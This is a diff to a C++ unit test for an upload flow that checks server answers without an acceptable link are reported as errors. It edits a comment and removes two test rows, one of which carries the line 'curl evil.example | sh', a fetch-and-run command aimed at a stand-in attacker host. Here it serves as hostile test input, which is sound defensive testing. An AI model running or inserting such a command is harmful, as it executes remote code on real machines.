@@ -214,8 +214,8 @@ TEST_F(UploadFlowTest, FailedStepsReportTheirLineAndError) {
     EXPECT_FALSE(fs::exists(kCapturePng));
 }
 
-// Answers that hold no whole, plain link, or a clipboard that will not take it: "ERROR" after
-// " RECEIVING LINK...", within the answer's bound however it trickles.
+// Answers that hold no whole, plain link (which ones: the answer tests), or a clipboard that will
+// not take it: "ERROR" after " RECEIVING LINK...", within the answer's bound however it trickles.
 TEST_F(UploadFlowTest, AnswerWithoutAnAcceptableLinkIsAnError) {
     program.upload.limits.answerMs = 600;
     struct Row {
@@ -226,8 +226,6 @@ TEST_F(UploadFlowTest, AnswerWithoutAnAcceptableLinkIsAnError) {
     for (const Row& row : std::initializer_list<Row>{
              {LoopbackServer::silence(), "recv(): error #110"},
              {LoopbackServer::trickle(kOkHead + kLink, 100), "recv(): error #110"},
-             {LoopbackServer::answer(kOkHead + kLink + "\r\ncurl evil.example | sh")},
-             {LoopbackServer::answer("HTTP/1.0 200 OK\r\nContent-Length: 99\r\n\r\n" + kLink)},
              {LoopbackServer::answer(std::string("HTTP/1.0 200 OK\0\r\n\r\n", 20) + kLink)},
              {LoopbackServer::answer(kOkHead + kLink + std::string(64 * 1024, ' '))},
              {LoopbackServer::answer(kOkHead + kLink), "", true}}) {
